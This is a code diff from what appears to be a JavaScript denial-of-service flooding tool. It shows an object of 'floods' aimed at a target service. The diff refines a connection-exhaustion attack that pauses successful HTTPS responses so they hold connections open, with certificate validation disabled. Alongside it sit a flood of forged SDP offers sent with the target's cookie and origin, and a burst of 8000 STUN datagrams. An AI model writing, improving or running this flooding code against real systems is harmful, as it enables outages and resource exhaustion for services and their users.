@@ -141,11 +141,19 @@ const floods = {
         together(160, () => new Promise((resolve, reject) => {
             const request = https.request({ host: hostname, port, path: target.link, agent: false, rejectUnauthorized: false }, (response) => {
                 statuses[response.statusCode ?? 0] = (statuses[response.statusCode ?? 0] ?? 0) + 1;
-                response.pause(); // it takes nothing, and keeps its place
+                if (response.statusCode === 200) {
+                    response.pause(); // it takes nothing, and keeps its place
+                } else {
+                    response.resume();
+                }
                 response.on('error', resolve).on('close', resolve);
             });
             request.on('error', reject).end();
-            setTimeout(() => request.destroy(), Math.max(0, until - Date.now()));
+            const over = () => {
+                request.destroy();
+                resolve(undefined); // a paused answer whose connection has ended tells nobody
+            };
+            setTimeout(over, Math.max(0, until - Date.now()));
         })),
     offers: () => together(8, () => ask('POST', '/api/p2p/offer', { headers: { 'content-type': 'application/sdp', origin: target.url, cookie: target.cookie }, body: target.sdp.replace(/(a=ice-ufrag:.)./, (_, head) => `${head}${done % 10}`) })),
     'STUN datagrams': () => datagrams(8000, stun),
